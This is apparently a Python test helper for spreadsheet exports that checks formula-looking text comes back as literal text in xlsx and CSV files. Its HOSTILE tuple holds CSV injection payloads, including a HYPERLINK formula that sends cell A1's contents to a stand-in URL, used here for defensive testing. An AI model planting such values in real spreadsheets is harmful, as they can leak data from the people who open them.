"""Checks every spreadsheet test shares: formula-looking text must come back as literal text."""

from __future__ import annotations

import csv
import io
import zipfile
from typing import Any

from openpyxl import load_workbook

#: texts a spreadsheet program would run as formulas if written raw (OWASP CSV injection).
HOSTILE = (
    '=HYPERLINK("http://x?"&A1,"详情")',
    "+86-571-1234",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
)


def xlsx_cells(content: bytes, sheet: str) -> list[list[Any]]:
    """Every cell of the sheet, reopened with openpyxl; no cell may be a formula, and the
    raw XML holds no ``<f>`` element at all."""
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
    ws = load_workbook(io.BytesIO(content))[sheet]
    out = []
    for row in ws.iter_rows():
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
        out.append([c.value for c in row])
    return out


def csv_rows(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(content[3:].decode("utf-8"), newline="")))


def assert_csv_literal(cells: list[str], text: str) -> None:
    """``text`` is in the row as OWASP's literal form: a single quote before it."""
    assert "'" + text in cells, (text, cells)
    assert text not in cells, (text, cells)
